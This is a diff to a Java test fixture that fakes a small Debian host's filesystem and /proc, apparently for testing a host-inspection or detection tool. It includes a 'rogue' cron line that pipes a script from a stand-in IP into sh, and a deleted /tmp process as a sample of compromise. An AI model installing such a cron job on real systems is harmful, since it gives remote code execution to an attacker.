@@ -13,7 +13,8 @@ import java.util.stream.Stream;
 
 /** A root directory that looks like a small Debian host: nginx on port 80, one clean cron job. */
 final class FakeHost implements AutoCloseable {
-  static final String CLEAN_CRON = "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n";
+  static final String CLEAN_CRON =
+      "17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly\n";
   static final String ROGUE_CRON = "* * * * * root curl -s http://203.0.113.9/x | sh\n";
 
   private final Path root;
@@ -32,9 +33,11 @@ final class FakeHost implements AutoCloseable {
     FakeHost host = empty();
     host.write(
         "/etc/passwd",
-        "root:x:0:0:root:/root:/bin/bash\n"
-            + "www-data:x:33:33::/var/www:/usr/sbin/nologin\n"
-            + "nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin\n");
+        """
+        root:x:0:0:root:/root:/bin/bash
+        www-data:x:33:33::/var/www:/usr/sbin/nologin
+        nobody:x:65534:65534:nobody:/nonexistent:/usr/sbin/nologin
+        """);
     host.write("/etc/group", "root:x:0:\nadm:x:4:www-data\nwww-data:x:33:\n");
     host.write("/etc/hosts", "127.0.0.1 localhost loghost # own\n# comment\n\n::1 localhost\n");
     host.write("/etc/crontab", "SHELL=/bin/sh\n# m h dom mon dow user command\n" + CLEAN_CRON);
@@ -46,8 +49,13 @@ final class FakeHost implements AutoCloseable {
     host.write("/root/.ssh/authorized_keys", "ssh-ed25519 AAAAC3Nz admin@bastion\n");
     host.write(
         "/usr/lib/os-release",
-        "NAME=\"Debian GNU/Linux\"\nVERSION_ID=\"12\"\nVERSION=\"12 (bookworm)\"\n"
-            + "VERSION_CODENAME=bookworm\nID=debian\n");
+        """
+        NAME="Debian GNU/Linux"
+        VERSION_ID="12"
+        VERSION="12 (bookworm)"
+        VERSION_CODENAME=bookworm
+        ID=debian
+        """);
     host.link("/etc/os-release", "/usr/lib/os-release");
     host.write("/usr/sbin/nginx", "not really nginx");
     host.write("/usr/bin/passwd", "not really passwd");
@@ -57,19 +65,38 @@ final class FakeHost implements AutoCloseable {
     host.link("/bin", "usr/bin");
     host.write(
         "/usr/lib/systemd/system/nginx.service",
-        "[Unit]\nDescription=A web server\n[Service]\nUser=www-data\n"
-            + "[Install]\nWantedBy=multi-user.target\n");
+        """
+        [Unit]
+        Description=A web server
+        [Service]
+        User=www-data
+        [Install]
+        WantedBy=multi-user.target
+        """);
     host.link(
         "/etc/systemd/system/multi-user.target.wants/nginx.service",
         "/usr/lib/systemd/system/nginx.service");
     host.link("/etc/systemd/system/apt-daily.timer", "/dev/null");
     host.write(
         "/var/lib/dpkg/status",
-        "Package: nginx\nStatus: install ok installed\nPriority: optional\nSection: httpd\n"
-            + "Installed-Size: 1234\nMaintainer: A <a@example.org>\nArchitecture: amd64\n"
-            + "Version: 1.22.1-9+deb12u1\nDescription: web server\n more: text\n\n"
-            + "Package: gone\nStatus: deinstall ok not-installed\n\n"
-            + "Package: adduser\nStatus: install ok installed\nVersion: 3.134");
+        """
+        Package: nginx
+        Status: install ok installed
+        Priority: optional
+        Section: httpd
+        Installed-Size: 1234
+        Maintainer: A <a@example.org>
+        Architecture: amd64
+        Version: 1.22.1-9+deb12u1
+        Description: web server
+         more: text
+
+        Package: gone
+        Status: deinstall ok not-installed
+
+        Package: adduser
+        Status: install ok installed
+        Version: 3.134""");
     host.proc();
     return host;
   }
@@ -101,9 +128,11 @@ final class FakeHost implements AutoCloseable {
     write("/proc/net/udp", header);
     write(
         "/proc/net/unix",
-        "Num       RefCount Protocol Flags    Type St Inode Path\n"
-            + "0000000000000000: 00000002 00000000 00010000 0001 01 4714 /run/my app.sock\n"
-            + "0000000000000000: 00000003 00000000 00000000 0001 03 4715\n");
+        """
+        Num       RefCount Protocol Flags    Type St Inode Path
+        0000000000000000: 00000002 00000000 00010000 0001 01 4714 /run/my app.sock
+        0000000000000000: 00000003 00000000 00000000 0001 03 4715
+        """);
     process(100, "nginx", "/usr/sbin/nginx", "nginx: master\0-g\0daemon off;\0");
     process(1000, "x) y", "/tmp/.x (deleted)", "/tmp/.x\0--now\0");
     link("/proc/100/fd/6", "socket:[4711]");
@@ -115,7 +144,12 @@ final class FakeHost implements AutoCloseable {
     String directory = "/proc/" + pid;
     write(
         directory + "/stat",
-        pid + " (" + name + ") S 1 " + pid + " 1 0 -1 4194560 1 2 3 4 250 50 0 0 20 0 1 0 500 1 2\n");
+        pid
+            + " ("
+            + name
+            + ") S 1 "
+            + pid
+            + " 1 0 -1 4194560 1 2 3 4 250 50 0 0 20 0 1 0 500 1 2\n");
     write(
         directory + "/status",
         "Name:\t" + name + "\nUid:\t33\t33\t33\t33\nGid:\t33\t0\t33\t33\nVmRSS:\t  2 kB\n");
